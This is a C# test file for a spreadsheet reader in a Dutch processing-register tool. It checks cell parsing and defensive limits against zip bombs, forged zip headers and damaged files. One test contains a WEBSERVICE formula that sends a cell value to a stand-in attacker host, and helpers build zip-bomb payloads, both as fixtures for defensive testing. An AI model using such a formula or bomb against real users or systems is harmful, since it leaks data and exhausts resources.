using System.IO.Compression;
using Binatic.ProcessingRegister.Diagnostics;
using Binatic.ProcessingRegister.Spreadsheets;
using CellValues = DocumentFormat.OpenXml.Spreadsheet.CellValues;

namespace Binatic.ProcessingRegister.Tests.Spreadsheets;

public sealed class XlsxReadingTests
{
    private static readonly SpreadsheetLimits Limits = new();

    [Fact]
    public void Shared_and_inline_strings_are_read_as_text()
    {
        var sheet = Sheet(new TestWorkbook().Text("A1", "Salarisadministratie").Inline("B1", "  inline, met spaties "));

        Assert.Equal(("Salarisadministratie", CellKind.Text), (sheet.Rows[0][1]!.Text, sheet.Rows[0][1]!.Kind));
        Assert.Equal("  inline, met spaties ", sheet.Rows[0][2]!.Text);
    }

    [Fact]
    public void Rich_text_runs_are_joined_into_one_text()
    {
        var sheet = Sheet(new TestWorkbook().RichText("A1", "Vet ", "schuin", " en gewoon"));

        Assert.Equal("Vet schuin en gewoon", sheet.Rows[0][1]!.Text);
    }

    [Fact]
    public void A_number_is_read_as_invariant_text_with_its_value()
    {
        var sheet = Sheet(new TestWorkbook().Number("A1", "7.5").Number("B1", "45123").Number("C1", "1.5E-3"));

        Assert.Equal(("7.5", CellKind.Number, (double?)7.5), (sheet.Rows[0][1]!.Text, sheet.Rows[0][1]!.Kind, sheet.Rows[0][1]!.Number));
        Assert.Equal("45123", sheet.Rows[0][2]!.Text);
        Assert.Equal("0.0015", sheet.Rows[0][3]!.Text);
        Assert.False(sheet.Rows[0][2]!.IsDate);
    }

    [Fact]
    public void Booleans_and_errors_are_read_as_such()
    {
        var sheet = Sheet(new TestWorkbook().Boolean("A1", true).Boolean("B1", false).Error("C1", "#REF!"));

        Assert.Equal(("TRUE", CellKind.Boolean), (sheet.Rows[0][1]!.Text, sheet.Rows[0][1]!.Kind));
        Assert.Equal("FALSE", sheet.Rows[0][2]!.Text);
        Assert.Equal(("#REF!", CellKind.Error), (sheet.Rows[0][3]!.Text, sheet.Rows[0][3]!.Kind));
    }

    [Theory]
    [InlineData(14u)]
    [InlineData(22u)]
    [InlineData(45u)]
    public void A_number_in_a_built_in_date_format_is_flagged_as_a_serial_date(uint numberFormat)
    {
        var workbook = new TestWorkbook();
        var style = workbook.BuiltInFormat(numberFormat);

        var cell = Sheet(workbook.Number("A1", "45123", style)).Rows[0][1]!;

        Assert.True(cell.IsDate);
        Assert.Equal(45123, cell.Number);
    }

    [Theory]
    [InlineData("dd-mm-yyyy", true)]
    [InlineData("d mmmm yyyy", true)]
    [InlineData("[$-413]d mmmm yyyy;@", true)]
    [InlineData("h:mm", true)]
    [InlineData("0.00", false)]
    [InlineData("#,##0 \"days\"", false)]
    [InlineData("[Red]0.00", false)]
    [InlineData("0.00E+00", false)]
    public void A_number_in_a_custom_format_is_a_date_only_when_the_format_shows_days_months_or_years(string code, bool isDate)
    {
        var workbook = new TestWorkbook();
        var style = workbook.CustomFormat(code);

        var cell = Sheet(workbook.Number("A1", "45123", style)).Rows[0][1]!;

        Assert.Equal(isDate, cell.IsDate);
    }

    [Fact]
    public void A_number_in_the_general_format_is_not_a_date()
    {
        var workbook = new TestWorkbook();
        var style = workbook.BuiltInFormat(0);

        Assert.False(Sheet(workbook.Number("A1", "45123", style)).Rows[0][1]!.IsDate);
    }

    [Fact]
    public void A_formula_cell_is_reported_at_its_cell_and_never_evaluated()
    {
        var workbook = new TestWorkbook().Text("A1", "x").Formula("C3", "WEBSERVICE(\"https://evil.example/\"&A1)", "stored", CellValues.String);

        var (read, diagnostics) = Read(workbook, "register.xlsx");

        var cell = read!.Sheets[0].Rows[1][3]!;
        Assert.Equal((CellKind.Formula, "stored", "WEBSERVICE(\"https://evil.example/\"&A1)"), (cell.Kind, cell.Text, cell.Formula));
        var finding = Assert.Single(diagnostics);
        Assert.Equal((DiagnosticIds.FormulaNotEvaluated, DiagnosticSeverity.Warning, "register.xlsx!Sheet1!C3"), (finding.RuleId, finding.Severity, finding.Location.ToString()));
        Assert.Contains("'stored'", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_formula_with_a_numeric_value_keeps_the_number_it_last_stored()
    {
        var cell = Sheet(new TestWorkbook().Formula("A1", "SUM(1,2)", "3")).Rows[0][1]!;

        Assert.Equal((CellKind.Formula, "3", (double?)3), (cell.Kind, cell.Text, cell.Number));
    }

    [Fact]
    public void A_formula_without_a_stored_value_is_read_as_an_empty_formula_cell_and_reported()
    {
        var (read, diagnostics) = Read(new TestWorkbook().Formula("B2", "NOW()", null));

        Assert.Equal((CellKind.Formula, string.Empty), (read!.Sheets[0].Rows[0][2]!.Kind, read.Sheets[0].Rows[0][2]!.Text));
        Assert.Equal("book.xlsx!Sheet1!B2", Assert.Single(diagnostics).Location.ToString());
    }

    [Fact]
    public void Every_cell_of_a_merged_range_gets_the_top_left_value()
    {
        var sheet = Sheet(new TestWorkbook().Text("A1", "Afdeling Publiekszaken").Merge("A1:B2").Text("C1", "los"));

        Assert.Equal(2, sheet.Rows.Length);
        Assert.All([sheet.Rows[0][2]!, sheet.Rows[1][1]!, sheet.Rows[1][2]!], cell =>
        {
            Assert.Equal("Afdeling Publiekszaken", cell.Text);
            Assert.Equal((1, 1), cell.MergedFrom);
        });
        Assert.Null(sheet.Rows[0][1]!.MergedFrom);
        Assert.Equal("los", sheet.Rows[0][3]!.Text);
    }

    [Fact]
    public void Sheets_are_read_in_the_workbooks_order_hidden_ones_too()
    {
        var workbook = new TestWorkbook().Sheet("Verwerkingen").Text("A1", "eerste").Sheet("Verborgen", hidden: true).Text("B2", "tweede");

        var (read, _) = Read(workbook);

        Assert.Equal(["Verwerkingen", "Verborgen"], read!.Sheets.Select(sheet => sheet.Name));
        Assert.Equal("tweede", read.Sheets[1].Rows[0][2]!.Text);
        Assert.Equal(2, read.Sheets[1].Rows[0].Number);
    }

    [Fact]
    public void Empty_rows_are_left_out_and_row_numbers_kept()
    {
        var sheet = Sheet(new TestWorkbook().Text("A1", "een").Text("A5", "vijf").Text("B5", string.Empty));

        Assert.Equal([1, 5], sheet.Rows.Select(row => row.Number));
        Assert.Single(sheet.Rows[1].Cells);
    }

    [Fact]
    public void What_the_writer_writes_the_reader_reads_back()
    {
        var content = new SheetContent("Verwerkingen", [["Naam", "Binatic B.V."]], ["Verwerking", "Doeleinden"], [["Salaris", "Betalen\nAfdragen"], ["Nieuwsbrief", "=1+1"]], [20, 30]);
        using var stream = new MemoryStream(SpreadsheetWriterTests.Xlsx([content]));

        var (read, diagnostics) = SpreadsheetReader.Read(stream, "export.xlsx", SpreadsheetFormat.Xlsx, Limits);

        Assert.Empty(diagnostics);
        var rows = read!.Sheets[0].Rows;
        Assert.Equal([1, 3, 4, 5], rows.Select(row => row.Number));
        Assert.Equal("Betalen\nAfdragen", rows[2][2]!.Text);
        Assert.Equal("'=1+1", rows[3][2]!.Text);
        Assert.Equal("=1+1", FormulaEscaping.Unescape(rows[3][2]!.Text));
    }

    [Fact]
    public void A_workbook_saved_by_libreoffice_is_read_with_the_cells_it_shows()
    {
        Support.LibreOffice.SkipUnlessInstalled();
        var content = new SheetContent("Verwerkingen", [["Naam", "Gemeente Voorbeeld"]], ["Verwerking", "Doeleinden"], [["Burgerzaken", "Paspoort aanvragen\nRijbewijs verlengen"], ["Accenten", "é ë ï ß €"]], [20, 30]);

        var resaved = Support.LibreOffice.ResaveAsXlsx(SpreadsheetWriterTests.Xlsx([content]));
        var (read, diagnostics) = SpreadsheetReader.Read(new MemoryStream(resaved), "libreoffice.xlsx", SpreadsheetFormat.Xlsx, Limits);

        Assert.Empty(diagnostics);
        var sheet = Assert.Single(read!.Sheets);
        Assert.Equal("Verwerkingen", sheet.Name);
        Assert.Equal(
            [(1, 1, "Naam"), (1, 2, "Gemeente Voorbeeld"), (3, 1, "Verwerking"), (3, 2, "Doeleinden"), (4, 1, "Burgerzaken"), (4, 2, "Paspoort aanvragen\nRijbewijs verlengen"), (5, 1, "Accenten"), (5, 2, "é ë ï ß €")],
            sheet.Rows.SelectMany(row => row.Cells).Select(cell => (cell.Row, cell.Column, cell.Text)));
    }

    [Fact]
    public void A_zip_bomb_is_refused_before_it_is_unzipped()
    {
        // 200 MB of zeros compresses to some 200 KB: the file is small, what it unzips to is not.
        var bomb = WithPart(new TestWorkbook().Text("A1", "x").ToBytes(), "xl/media/zeros.bin", 200 * 1024 * 1024);

        var finding = Failure(bomb);

        Assert.Equal((DiagnosticIds.SpreadsheetTooLarge, "book.xlsx(1,1)"), (finding.RuleId, finding.Location.ToString()));
        Assert.Contains("zip bomb", finding.Message, StringComparison.Ordinal);
        Assert.True(bomb.Length < 1024 * 1024, $"{bomb.Length} bytes");
    }

    [Fact]
    public void Parts_each_too_small_for_the_ratio_check_are_refused_when_together_they_unzip_past_the_limit()
    {
        // 300 parts of zeros just under the 1 MiB from which a part's ratio is checked: 300 MiB unzipped, past the
        // default 256 MiB, from a file of some 300 KB.
        var bomb = WithZeroParts(new TestWorkbook().Text("A1", "x").ToBytes(), 300, (1024 * 1024) - 1);

        var finding = Failure(bomb);

        Assert.Equal((DiagnosticIds.SpreadsheetTooLarge, "book.xlsx(1,1)"), (finding.RuleId, finding.Location.ToString()));
        Assert.Contains("Unzipped, the parts of the workbook come to", finding.Message, StringComparison.Ordinal);
        Assert.True(bomb.Length < 1024 * 1024, $"{bomb.Length} bytes");
    }

    [Fact]
    public void A_part_compressed_far_more_than_a_real_workbook_is_refused_even_under_the_size_limit()
    {
        var bomb = WithPart(new TestWorkbook().Text("A1", "x").ToBytes(), "xl/media/zeros.bin", 20 * 1024 * 1024);

        var finding = Failure(bomb);

        Assert.Equal(DiagnosticIds.SpreadsheetTooLarge, finding.RuleId);
        Assert.Contains("xl/media/zeros.bin", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_part_that_claims_to_be_smaller_than_it_is_is_read_only_as_far_as_it_claims_and_reported_as_damaged()
    {
        var workbook = new TestWorkbook();
        for (var row = 1; row <= 2000; row++)
        {
            workbook.Number($"A{row}", "1");
        }

        var lying = ClaimSize(workbook.ToBytes(), "xl/worksheets/sheet1.xml", 10);

        var finding = Failure(lying, Limits with { MaxUnzippedBytes = 20_000 });

        Assert.Equal(DiagnosticIds.SpreadsheetUnreadable, finding.RuleId);
    }

    [Fact]
    public void A_workbook_of_more_parts_than_the_limit_is_refused()
    {
        var finding = Failure(new TestWorkbook().Text("A1", "x").ToBytes(), Limits with { MaxZipEntries = 3 });

        Assert.Equal(DiagnosticIds.SpreadsheetTooLarge, finding.RuleId);
    }

    [Fact]
    public void A_file_over_the_size_limit_is_refused_without_reading_it_all()
    {
        var finding = Failure(new byte[2048], Limits with { MaxFileBytes = 1024 });

        Assert.Equal((DiagnosticIds.SpreadsheetTooLarge, "book.xlsx(1,1)"), (finding.RuleId, finding.Location.ToString()));
    }

    [Fact]
    public void A_password_protected_workbook_is_reported_as_such()
    {
        byte[] encrypted = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. Enumerable.Range(0, 4096).Select(n => (byte)(n * 7))];

        var finding = Failure(encrypted);

        Assert.Equal((DiagnosticIds.SpreadsheetProtectedOrOldFormat, "book.xlsx(1,1)"), (finding.RuleId, finding.Location.ToString()));
        Assert.Contains("password-protected", finding.Message, StringComparison.Ordinal);
        Assert.Contains("97-2003", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_truncated_workbook_is_a_located_error()
    {
        var whole = new TestWorkbook().Text("A1", "x").ToBytes();

        var finding = Failure(whole[..(whole.Length / 2)]);

        Assert.Equal((DiagnosticIds.SpreadsheetUnreadable, "book.xlsx(1,1)"), (finding.RuleId, finding.Location.ToString()));
    }

    [Fact]
    public void A_text_file_named_xlsx_is_a_located_error_that_says_it_is_text()
    {
        var finding = Failure("Verwerking;Doel\r\nSalaris;Betalen\r\n"u8.ToArray());

        Assert.Equal(DiagnosticIds.SpreadsheetUnreadable, finding.RuleId);
        Assert.Contains("text file", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_zip_without_a_workbook_is_a_located_error()
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = new StreamWriter(zip.CreateEntry("readme.txt").Open());
            entry.Write("no workbook here");
        }

        var finding = Failure(stream.ToArray());

        Assert.Equal(DiagnosticIds.SpreadsheetUnreadable, finding.RuleId);
    }

    [Fact]
    public void Every_damaged_variant_of_a_workbook_gives_a_finding_and_never_an_exception()
    {
        var whole = new TestWorkbook().Text("A1", "x").Formula("B1", "1+1", "2").Merge("A1:A2").ToBytes();

        for (var at = 0; at < whole.Length; at += Math.Max(1, whole.Length / 200))
        {
            var damaged = (byte[])whole.Clone();
            damaged[at] ^= 0x5A;

            var (read, diagnostics) = SpreadsheetReader.Read(new MemoryStream(damaged), "book.xlsx", SpreadsheetFormat.Xlsx, Limits);

            Assert.True(read is not null || diagnostics.Any(diagnostic => diagnostic.Severity == DiagnosticSeverity.Error), $"byte {at}");
        }
    }

    [Fact]
    public void A_sheet_over_the_row_limit_stops_with_an_error_naming_the_sheet_and_row()
    {
        var workbook = new TestWorkbook().Sheet("Verwerkingen");
        for (var row = 1; row <= 5; row++)
        {
            workbook.Text($"A{row}", $"rij {row}");
        }

        var finding = Failure(workbook.ToBytes(), Limits with { MaxRows = 3 });

        Assert.Equal((DiagnosticIds.SheetTooLarge, "book.xlsx!Verwerkingen!A4"), (finding.RuleId, finding.Location.ToString()));
        Assert.Contains("'Verwerkingen'", finding.Message, StringComparison.Ordinal);
        Assert.Contains("row 4", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_workbook_over_the_cell_limit_stops_with_an_error_at_the_cell()
    {
        var workbook = new TestWorkbook().Text("A1", "a").Text("B1", "b").Text("C1", "c").Text("A2", "d");

        var finding = Failure(workbook.ToBytes(), Limits with { MaxCells = 3 });

        Assert.Equal((DiagnosticIds.SheetTooLarge, "book.xlsx!Sheet1!A2"), (finding.RuleId, finding.Location.ToString()));
    }

    [Fact]
    public void A_merged_range_of_the_whole_sheet_stops_at_the_cell_limit()
    {
        var workbook = new TestWorkbook().Text("A1", "overal").Merge("A1:XFD1048576");

        var finding = Failure(workbook.ToBytes(), Limits with { MaxCells = 10_000 });

        Assert.Equal(DiagnosticIds.SheetTooLarge, finding.RuleId);
    }

    [Fact]
    public void A_cell_longer_than_the_limit_is_an_error_at_the_cell()
    {
        var finding = Failure(new TestWorkbook().Text("B7", new string('x', 40_000)).ToBytes());

        Assert.Equal((DiagnosticIds.CellTooLong, "book.xlsx!Sheet1!B7"), (finding.RuleId, finding.Location.ToString()));
    }

    [Fact]
    public void Every_finding_message_has_a_dutch_text()
    {
        var finding = Failure(new byte[] { 0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1 });

        Assert.Contains("wachtwoord", finding.In(ProcessingRegister.Model.RegisterLanguage.Dutch).Message, StringComparison.Ordinal);
    }

    private static SheetTable Sheet(TestWorkbook workbook)
    {
        var (read, _) = Read(workbook);
        return Assert.Single(read!.Sheets);
    }

    private static (Workbook? Workbook, System.Collections.Immutable.ImmutableArray<Diagnostic> Diagnostics) Read(TestWorkbook workbook, string file = "book.xlsx")
    {
        using var stream = new MemoryStream(workbook.ToBytes());
        return SpreadsheetReader.Read(stream, file, SpreadsheetFormat.Xlsx, Limits);
    }

    private static Diagnostic Failure(byte[] bytes, SpreadsheetLimits? limits = null)
    {
        using var stream = new MemoryStream(bytes);
        var (read, diagnostics) = SpreadsheetReader.Read(stream, "book.xlsx", SpreadsheetFormat.Xlsx, limits ?? Limits);
        Assert.Null(read);
        var finding = Assert.Single(diagnostics);
        Assert.Equal(DiagnosticSeverity.Error, finding.Severity);
        return finding;
    }

    /// <summary>Makes the zip's local header and central directory claim <paramref name="size"/> unzipped bytes for the part.</summary>
    private static byte[] ClaimSize(byte[] zip, string part, uint size)
    {
        var bytes = (byte[])zip.Clone();
        var name = System.Text.Encoding.ASCII.GetBytes(part);
        for (var at = 0; at < bytes.Length - 46; at++)
        {
            if (bytes.AsSpan(at).StartsWith("PK\u0001\u0002"u8) && bytes.AsSpan(at + 46).StartsWith(name))
            {
                BitConverter.GetBytes(size).CopyTo(bytes, at + 24);
            }
            else if (bytes.AsSpan(at).StartsWith("PK\u0003\u0004"u8) && bytes.AsSpan(at + 30).StartsWith(name))
            {
                BitConverter.GetBytes(size).CopyTo(bytes, at + 22);
            }
        }

        return bytes;
    }

    /// <summary>Adds a part of <paramref name="size"/> zeros, compressed as well as deflate can.</summary>
    private static byte[] WithZeroParts(byte[] workbook, int count, int size)
    {
        using var stream = new MemoryStream();
        stream.Write(workbook);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            var zeros = new byte[size];
            for (var index = 0; index < count; index++)
            {
                using var part = zip.CreateEntry($"xl/media/zeros{index}.bin", CompressionLevel.SmallestSize).Open();
                part.Write(zeros);
            }
        }

        return stream.ToArray();
    }

    private static byte[] WithPart(byte[] workbook, string name, int size)
    {
        using var stream = new MemoryStream();
        stream.Write(workbook);
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var part = zip.CreateEntry(name, CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var written = 0; written < size; written += zeros.Length)
            {
                part.Write(zeros);
            }
        }

        return stream.ToArray();
    }
}
